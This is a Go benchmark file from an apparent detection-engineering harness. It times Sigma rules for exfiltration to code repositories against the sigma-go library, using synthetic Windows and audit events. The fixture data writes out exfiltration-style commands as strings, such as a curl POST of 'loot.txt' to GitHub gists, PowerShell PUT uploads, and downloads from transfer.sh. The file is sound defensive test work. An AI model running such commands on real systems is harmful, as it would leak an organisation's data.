package sigma

import (
	"context"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"sort"
	"testing"
	"time"

	sigmago "github.com/bradleyjkemp/sigma-go"
	"github.com/bradleyjkemp/sigma-go/evaluator"

	"github.com/t1567001/harness/event"
	"github.com/t1567001/harness/internal/reftest"
)

// benchEvents is a mixed stream of every rendered kind over a few hosts,
// a minority of which the seed-equivalent rules report.
func benchEvents(n int) []event.Event {
	hosts := []string{workstation, ciRunner, "WS-DEV-01", "SRV-DB-02"}
	images := []string{gitExe, curlExe, `C:\Windows\System32\svchost.exe`, gitRemoteExe, explorerExe, pythonExe}
	cmds := []string{
		"git push --force https://github.com/x/y.git",
		`curl.exe -X POST -d @loot.txt https://api.github.com/gists`,
		"svchost.exe -k netsvcs -p",
		"git status",
	}
	dests := []string{"api.github.com", "www.microsoft.com", "github.com", "login.live.com"}
	events := make([]event.Event, n)
	for i := range events {
		host := hosts[i%len(hosts)]
		img := images[(i/6)%len(images)]
		switch i % 12 {
		case 0:
			events[i] = procCreate(host, img, cmds[(i/12)%len(cmds)], explorerExe)
		case 1:
			events[i] = netConnect(host, img, dests[(i/12)%len(dests)])
		case 2:
			events[i] = sysmonEvent(11, host, "Image", img, "TargetFilename", fmt.Sprintf(`C:\Users\alice\AppData\Local\Temp\x%d.tmp`, i))
		case 3:
			events[i] = sysmonEvent(22, host, "Image", img, "QueryName", dests[(i/12)%len(dests)], "QueryStatus", "0")
		case 4:
			events[i] = security4688(host, img, cmds[(i/12)%len(cmds)], explorerExe)
		case 5:
			events[i] = scriptBlock(host, `Invoke-RestMethod -Method PUT -Uri https://api.github.com/repos/x/y/contents/a.txt`)
		case 6:
			events[i] = sysmonEvent(15, host, "Image", img, "TargetFilename", `C:\Users\alice\Downloads\x.zip:Zone.Identifier`, "Contents", "[ZoneTransfer] ZoneId=3 HostUrl=https://transfer.sh/x.zip")
		case 7:
			events[i] = other("Microsoft-Windows-DNS Client Events/Operational", 3008, host, "QueryName", dests[(i/12)%len(dests)], "QueryStatus", "0")
		case 8:
			events[i] = other("github.audit", 0, "", "action", []string{"repo.create", "git.clone", "org.add_member", "secret_scanning.disable"}[(i/12)%4], "actor", "alice", "repo", "corp/app")
		case 9:
			events[i] = other("bitbucket.audit", 0, "", "auditType.category", "Projects", "auditType.action", "Full data export triggered")
		case 10:
			events[i] = other("proxy", 0, "", "c-uri", "https://"+dests[(i/12)%len(dests)]+"/x", "cs-method", "PUT", "c-useragent", "curl/8.0")
		default:
			events[i] = other("Microsoft-Windows-Bits-Client/Operational", 16403, host, "RemoteName", "https://transfer.sh/x.exe", "LocalName", `C:\Users\alice\x.exe`)
		}
		events[i].RecordID = uint64(i + 1)
	}
	return events
}

func other(channel string, id int, host string, kv ...string) event.Event {
	return event.Event{Channel: channel, EventID: id, Computer: host, TimeCreated: t0, Data: fieldsOf(kv)}
}

// benchRules are the two Sigma twins of the seed query and, when the
// reference corpus is present, its loadable rules.
func benchRules(b *testing.B) []*Rule {
	net, proc := ownRules(b)
	rules := []*Rule{net, proc}
	if dir, ok := reftest.Lookup(b, "sigma"); ok {
		ref, _, err := LoadDir(dir)
		if err != nil {
			b.Fatal(err)
		}
		rules = append(rules, ref...)
	}
	return rules
}

// BenchmarkRuleSet runs every rule as one Set over 10,000 mixed events.
func BenchmarkRuleSet(b *testing.B) {
	rules := benchRules(b)
	set, err := Compile(&Collection{Rules: rules})
	if err != nil {
		b.Fatal(err)
	}
	events := benchEvents(10000)
	ctx := context.Background()
	matches := 0
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		matches = 0
		for j := range events {
			hits, err := set.Match(ctx, &events[j])
			if err != nil {
				b.Fatal(err)
			}
			matches += len(hits)
		}
	}
	b.ReportMetric(float64(b.N*len(events))/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(float64(len(rules)), "rules")
	b.ReportMetric(float64(matches), "matches")
}

// sigmaGoRule is a rule as sigma-go v0.6.6 evaluates it, with the events
// of its logsource prepared as the maps it reads (outside the timing).
type sigmaGoRule struct {
	eval   *evaluator.RuleEvaluator
	inputs []map[string]interface{}
	events []event.Event // the same events, for ours
}

func forSigmaGo(r *Rule, events []event.Event) (*sigmaGoRule, error) {
	data, err := os.ReadFile(r.Path)
	if err != nil {
		return nil, err
	}
	sr, err := sigmago.ParseRule(data)
	if err != nil {
		return nil, err
	}
	g := &sigmaGoRule{eval: evaluator.ForRule(sr)}
	for i := range events {
		sel := r.selector(&events[i])
		if sel == nil {
			continue
		}
		fs := fields{ev: &events[i], sel: sel}
		m := map[string]interface{}{}
		for _, name := range r.fieldNames {
			if v, ok := fs.get(name); ok {
				m[name] = v
			}
		}
		g.inputs = append(g.inputs, m)
		g.events = append(g.events, events[i])
	}
	ctx := context.Background()
	for _, in := range g.inputs {
		if _, err := g.eval.Matches(ctx, in); err != nil {
			return nil, err
		}
	}
	return g, nil
}

func timeIt(rounds int, fn func()) time.Duration {
	start := time.Now()
	for i := 0; i < rounds; i++ {
		fn()
	}
	return time.Since(start)
}

// BenchmarkVsSigmaGo times each rule sigma-go v0.6.6 can evaluate, ours
// and sigma-go's, on the same events in one run, and reports the ratios
// (sigma-go's time / ours: above 1 is faster than sigma-go). Both see the
// events of the rule's logsource; sigma-go gets them as ready-made maps.
// Rules sigma-go refuses or fails on, and rules with no events of their
// logsource in the stream, are counted, not timed.
func BenchmarkVsSigmaGo(b *testing.B) {
	rules := benchRules(b)
	events := benchEvents(3000)
	ctx := context.Background()
	type result struct {
		name  string
		ratio float64
	}
	var results []result
	skipped, noEvents := 0, 0
	for i := 0; i < b.N; i++ {
		results = results[:0]
		skipped, noEvents = 0, 0
		for _, r := range rules {
			g, err := forSigmaGo(r, events)
			if err != nil {
				skipped++
				continue
			}
			if len(g.events) == 0 {
				noEvents++
				continue
			}
			// Alternate, and keep each side's best of seven: the machine
			// is shared, and preemption only ever adds time.
			ours, theirs := time.Duration(math.MaxInt64), time.Duration(math.MaxInt64)
			for k := 0; k < 7; k++ {
				ours = min(ours, timeIt(1, func() {
					for j := range g.events {
						r.matches(&g.events[j])
					}
				}))
				theirs = min(theirs, timeIt(1, func() {
					for _, in := range g.inputs {
						_, _ = g.eval.Matches(ctx, in)
					}
				}))
			}
			results = append(results, result{filepath.Base(r.Path), float64(theirs) / float64(max(ours, 1))})
		}
	}
	sort.Slice(results, func(i, j int) bool { return results[i].ratio < results[j].ratio })
	logSum := 0.0
	for _, res := range results {
		logSum += math.Log(res.ratio)
	}
	if len(results) > 0 {
		b.ReportMetric(results[0].ratio, "min-ratio")
		b.ReportMetric(math.Exp(logSum/float64(len(results))), "geomean-ratio")
		for _, res := range results[:min(5, len(results))] {
			b.Logf("slowest vs sigma-go: %-70s %.1fx", res.name, res.ratio)
		}
		for _, res := range results {
			if res.name == "seed_t1567_001_code_repo_exfil_net.yml" || res.name == "seed_t1567_001_code_repo_exfil_proc.yml" {
				b.Logf("twin %s: %.1fx", res.name, res.ratio)
			}
		}
	}
	b.ReportMetric(float64(len(results)), "rules-compared")
	b.ReportMetric(float64(skipped), "rules-sigma-go-cannot-run")
	b.ReportMetric(float64(noEvents), "rules-without-events")
}

// BenchmarkTwins: the two Sigma twins of the seed query, per event of the
// mixed stream (compare the seed SPL query's per-event cost in
// validate/spl).
func BenchmarkTwins(b *testing.B) {
	net, proc := ownRules(b)
	events := benchEvents(12000)
	for _, r := range []*Rule{net, proc} {
		b.Run(filepath.Base(r.Path), func(b *testing.B) {
			n := 0
			for i := 0; i < b.N; i++ {
				if r.matches(&events[i%len(events)]) {
					n++
				}
			}
			_ = n
		})
	}
}
